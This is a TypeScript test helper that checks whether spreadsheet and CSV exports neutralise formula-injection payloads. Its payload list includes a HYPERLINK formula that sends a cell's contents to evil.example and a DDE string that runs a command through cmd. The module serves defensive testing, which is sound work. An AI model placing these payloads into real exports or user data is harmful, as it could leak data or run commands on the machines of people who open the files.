/**
 * Formula-injection payloads (issue #12 item 5) and readers of a downloaded export, shared by the
 * reliability tests that store such a value through the ordinary API and read every export back.
 */
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { expect } from "vitest";

/** OWASP's starts: =, +, -, @, tab, carriage return. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
];

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Every cell that holds one of the payloads as its whole value is the defused text, never the raw
 * one, and at least one payload came through (so the value did reach the file).
 */
export function expectDefused(cells: unknown[]) {
  const raw = cells.filter((c) => PAYLOADS.includes(c as string));
  const defused = cells.filter((c) => PAYLOADS.some((p) => c === `'${p}`));
  expect(raw).toEqual([]);
  expect(defused.length).toBeGreaterThan(0);
}

/**
 * No text cell of the file begins the way a formula does — whatever it holds, a stored value
 * that the API trimmed, or one embedded after fixed text.
 */
export function expectNoFormulaStart(cells: unknown[]) {
  expect(cells.filter((c) => typeof c === "string" && FORMULA_START.test(c))).toEqual([]);
}

/** The values of every cell of every sheet; fails on any cell that is a formula. */
export async function xlsxCells(res: Response): Promise<unknown[]> {
  expect(res.status).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
  const cells: unknown[] = [];
  for (const ws of wb.worksheets)
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula, "no cell is a formula").toBeUndefined();
        cells.push(cell.value);
      }),
    );
  return cells;
}

/** The fields of every record of a CSV answer (a UTF-8 BOM dropped). */
export async function csvCells(res: Response): Promise<unknown[]> {
  expect(res.status).toBe(200);
  const text = (await res.text()).replace(/^\uFEFF/, "");
  return (parse(text, { relax_column_count: true }) as string[][]).flat();
}
